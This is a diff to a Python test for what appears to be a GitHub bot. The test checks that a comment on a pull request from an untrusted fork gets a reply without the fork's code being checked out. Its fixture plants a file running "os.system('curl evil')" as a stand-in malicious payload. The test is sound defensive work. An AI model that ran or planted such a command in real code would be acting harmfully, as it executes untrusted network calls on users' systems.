@@ -266,7 +266,8 @@ def test_fork_pull_request_is_answered_not_checked_out(bed: Bed) -> None:
     bed.github.add_repo("mallory/hello-world", fork_of=bed.repo)
     bed.github.commit("mallory/hello-world", "evil", {"src/hello.py": "import os; os.system('curl evil')\n"})
     pull = bed.github.add_pull(bed.repo, head="evil", head_repo="mallory/hello-world", title="Improve")
-    event = bed.pull_comment("/pilot review this", pull)
+    # Any request but a review (which reads a fork's code and runs none of it: tests/e2e/test_review_command.py).
+    event = bed.pull_comment("/pilot tidy this up", pull)
 
     result = bed.run("issue_comment", event)
 
